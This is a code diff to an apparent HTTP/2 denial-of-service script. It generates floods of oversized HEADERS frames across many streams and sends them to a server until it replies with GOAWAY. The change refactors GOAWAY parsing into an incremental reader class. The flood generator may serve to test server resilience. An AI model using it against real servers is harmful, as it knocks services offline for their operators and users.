@@ -122,7 +122,7 @@ def bombs() -> Iterator[bytes]:
 
 
 def many_small_bombs() -> Iterator[bytes]:
-    """Each of them is below the limit of a head."""
+    """Each of them is below the limit of a head: a request like others, but dear."""
     one = b"\x40" + text(b"x") + text(b"y" * 4000)
     yield frame(HEADERS, END_HEADERS | END_STREAM, 1, fields() + one)
     for n in range(3, 2**31, 2):
@@ -221,15 +221,23 @@ def connect(address: tuple[str, int]) -> socket.socket:
     return sock
 
 
-def code_of(data: bytes) -> int | None:
-    """The code of the last GOAWAY, if there is one."""
-    code = None
-    while len(data) >= 9:
-        n = int.from_bytes(data[:3], "big")
-        if data[3] == GOAWAY and len(data) >= 17:
-            code = int.from_bytes(data[13:17], "big")
-        data = data[9 + n :]
-    return code
+class Goaway:
+    """Reads frames as they come, and keeps the code of the last GOAWAY. None: there was none."""
+
+    def __init__(self) -> None:
+        self.code: int | None = None
+        self.rest = b""
+
+    def feed(self, data: bytes) -> None:
+        data, at = self.rest + data, 0
+        while len(data) - at >= 9:
+            end = at + 9 + int.from_bytes(data[at : at + 3], "big")
+            if len(data) < end:
+                break
+            if data[at + 3] == GOAWAY:
+                self.code = int.from_bytes(data[at + 13 : at + 17], "big")
+            at = end
+        self.rest = data[at:]
 
 
 def take(sock: socket.socket) -> bytes | None:
@@ -255,10 +263,10 @@ def attack(address: tuple[str, int], pieces: Iterator[bytes], most: int) -> int 
 
     Returns the code of GOAWAY, which ends it. None: there was none.
     """
-    waiting, got, made = b"", b"", 0
+    waiting, goaway, made = b"", Goaway(), 0
     with connect(address) as sock:
         sock.setblocking(False)
-        while code_of(got) is None and made < most:
+        while goaway.code is None and made < most:
             while len(waiting) < PIECE:
                 waiting += next(pieces)
             left = len(waiting)
@@ -269,17 +277,19 @@ def attack(address: tuple[str, int], pieces: Iterator[bytes], most: int) -> int 
             made += left - len(waiting)
             if (data := take(sock)) is None:
                 break
-            got += data
+            goaway.feed(data)
             if left == len(waiting):
                 select.select([sock], [sock], [], 1)
-        return code_of(got) if made >= most else last_word(sock, got)
+        if made < most:
+            read_on(sock, goaway)
+        return goaway.code
 
 
-def last_word(sock: socket.socket, got: bytes) -> int | None:
+def read_on(sock: socket.socket, goaway: Goaway) -> None:
+    """Until the server ends the connection."""
     sock.settimeout(5)
     try:
-        while code_of(got) is None and (data := sock.recv(1 << 20)):
-            got += data
+        while goaway.code is None and (data := sock.recv(1 << 20)):
+            goaway.feed(data)
     except OSError:
         pass
-    return code_of(got)
